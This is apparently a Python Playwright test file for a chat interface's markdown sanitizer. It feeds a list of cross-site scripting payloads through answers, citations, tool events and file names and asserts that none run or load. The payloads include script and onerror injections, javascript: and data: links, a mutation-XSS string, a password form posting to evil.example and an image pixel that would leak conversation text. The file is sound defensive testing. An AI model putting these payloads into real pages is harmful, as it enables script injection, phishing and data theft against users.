"""What a model, a document or a file name may say to harm the reader, in a real browser: nothing of it happens."""

import pytest
from playwright.async_api import Page, expect

from switchboard import Artifact, Citation, Delta, Event, Final, Question, Status, ToolStarted, Warning

from .conftest import Stage, Visitor

pytestmark = pytest.mark.asyncio(loop_scope="session")

EVIL = "https://evil.example"
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
    f"<img src={EVIL}/pixel.png>",
    f"<iframe src={EVIL}></iframe><object data={EVIL}></object><embed src={EVIL}>",
    f"<style>@import url({EVIL}/x.css); * {{ display: none }}</style>",
    f"<form action={EVIL}><input name=password><button>Sign in</button></form>",
    f'<a href="{EVIL}" ping="{EVIL}/ping">x</a>',
    '<a id="switchboard" name="body" class="launcher" style="position:fixed">clobber</a>',
    "<div id=panel class=panel style='position:fixed;inset:0'>overlay</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
    "<template><script>window.hacked=1</script></template>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<switchboard-chat mode=bubble server=https://evil.example></switchboard-chat>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt&colon;window.hacked=1)",
    "[click](\tjavascript:window.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "[click](//evil.example/path)",
    "[click](/api/conversations)",
    "<javascript:window.hacked=1>",
    f"![pixel]({EVIL}/pixel.png?q=the+conversation)",
    f'![x]({EVIL}/a.png "onerror=window.hacked=1")',
    f"[![nested]({EVIL}/n.png)]({EVIL})",
    "[ref]: javascript:window.hacked=1\n\n[ref]",
    "`<img src=x onerror=window.hacked=1>`",
    '```"><img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```',
    "| a |\n|---|\n| <img src=x onerror=window.hacked=1> |",
    "<b>bold <!-- comment --> &lt;script&gt;window.hacked=1&lt;/script&gt;",
    "> " * 3000 + "deep",
    "[" * 5000,
]
ALLOWED = {
    *(
        "A",
        "BLOCKQUOTE",
        "BR",
        "BUTTON",
        "CODE",
        "DEL",
        "DIV",
        "EM",
        "H1",
        "H2",
        "H3",
        "H4",
        "H5",
        "H6",
        "HR",
        "LI",
        "OL",
        "P",
    ),
    *("PATH", "PRE", "SPAN", "STRONG", "SUB", "SUP", "SVG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"),
}
INSPECT = """(nodes) => nodes.flatMap((root) => [...root.querySelectorAll("*")].map((node) => ({
    tag: node.tagName.toUpperCase(),
    ours: node.closest(".code-tools") !== null,
    attributes: node.getAttributeNames(),
    href: node.href ?? "",
})))"""


async def harmless(page: Page, selector: str) -> None:
    """No element, attribute or address that could do anything."""
    for node in await page.locator(selector).evaluate_all(INSPECT):
        if node["ours"]:
            continue
        assert node["tag"] in ALLOWED
        assert not {
            name for name in node["attributes"] if name.startswith("on") or name in ("style", "id", "name", "src")
        }
        if isinstance(node["href"], str) and node["href"]:
            assert node["href"].startswith(("https://", "http://", "mailto:"))
            assert {"target", "rel"} <= set(node["attributes"])
    assert await page.evaluate("window.hacked") is None
    assert page.url.startswith("http://127.0.0.1")


async def test_hostile_markup_does_nothing_however_it_is_cut_up(visitor: Visitor, stage: Stage) -> None:
    text = "\n\n".join(HOSTILE)
    pieces = (text[at : at + 7] for at in range(0, 6_000, 7))
    stage.plays("attack", *(Delta(text=piece) for piece in pieces), Final(text=text))
    await visitor.enter()
    await visitor.ask("attack")
    await visitor.page.locator("li.turn[data-state=done]").wait_for()
    await harmless(visitor.page, ".answer")


async def test_html_that_gets_past_markdown_is_cleaned(visitor: Visitor) -> None:
    await visitor.enter()
    found = await visitor.page.evaluate(
        """async (texts) => {
        const { sanitize } = await import("/chat/markdown.js");
        const inside = (text) => [...sanitize(text, location.origin).querySelectorAll("*")];
        return texts.flatMap(inside).map((node) => [node.tagName, ...node.getAttributeNames()]);
        }""",
        HOSTILE,
    )
    assert {tag for tag, *_ in found} <= ALLOWED
    assert {name for _, *names in found for name in names} <= {"href", "title", "target", "rel"}


async def test_a_picture_becomes_a_link_and_is_not_fetched(visitor: Visitor, stage: Stage) -> None:
    stage.plays("picture", Final(text=f"![a chart]({EVIL}/chart.png)"))
    await visitor.enter()
    await visitor.ask("picture")
    await expect(visitor.page.get_by_role("link", name="a chart")).to_have_attribute("href", f"{EVIL}/chart.png")
    await expect(visitor.page.locator(".answer img")).to_have_count(0)


async def test_html_in_an_answer_is_shown_as_the_text_that_it_is(visitor: Visitor, stage: Stage) -> None:
    stage.plays("html", Final(text="Write <b>bold</b> or a <div> element."))
    await visitor.enter()
    await visitor.ask("html")
    await expect(visitor.page.locator(".answer")).to_have_text("Write <b>bold</b> or a <div> element.")


async def test_a_citation_mark_in_code_or_in_a_link_is_left_alone(visitor: Visitor, stage: Stage) -> None:
    text = f"Real [1], unknown [7], `code [1]`, [1]({EVIL}).\n\n```\nblock [1]\n```"
    stage.plays("marks", Citation(number=1, title="t", source="s", document="handbook"), Final(text=text))
    await visitor.enter()
    await visitor.ask("marks")
    await expect(visitor.page.locator(".answer .chip")).to_have_text(["1"])
    await expect(visitor.page.locator(".answer code")).to_have_text(["code [1]", "block [1]"])
    await expect(visitor.page.locator(".answer")).to_contain_text("unknown [7]")
    await expect(visitor.page.locator(".answer a:not(.chip)")).to_have_attribute("href", f"{EVIL}/")


async def test_everything_that_is_not_the_answer_is_shown_as_plain_text(visitor: Visitor, stage: Stage) -> None:
    bad = "<img src=x onerror=window.hacked=1>"
    events: tuple[Event, ...] = (
        ToolStarted(call_id="1", tool=bad, text=bad),
        Status(text=bad, done=1, total=2),
        Citation(number=1, title=bad, source=bad, quote=bad, link="javascript:window.hacked=1"),
        Artifact(name=bad, media_type="text/html", size=1, digest="0" * 64, link="javascript:window.hacked=1"),
        Warning(text=bad, code="x"),
        Question(text=bad, options=(bad,)),
        Final(text="[1]"),
    )
    stage.plays(bad, *events)
    await visitor.enter()
    await visitor.page.set_input_files(
        "input[type=file]", files=[{"name": f"{bad}.txt", "mimeType": "text/html", "buffer": b"x"}]
    )
    await visitor.page.locator(".upload[data-state=ready]").wait_for()
    await visitor.ask(bad)
    await visitor.page.locator("li.turn[data-state=done]").wait_for()
    await visitor.page.locator(".answer .chip").hover()
    await expect(visitor.page.locator(".quote p")).to_have_text(bad)
    await expect(visitor.page.locator(".turn img")).to_have_count(0)
    await expect(visitor.page.locator("a[href^=javascript]")).to_have_count(0)
    assert await visitor.page.evaluate("window.hacked") is None


async def test_the_page_lets_no_script_in_that_is_not_its_own(visitor: Visitor) -> None:
    await visitor.enter()
    ran = await visitor.page.evaluate(
        """() => {
        const script = document.createElement("script");
        try { script.textContent = "window.hacked = 1"; } catch { return "refused by trusted types"; }
        document.body.append(script);
        return window.hacked;
        }"""
    )
    assert ran in (None, "refused by trusted types")
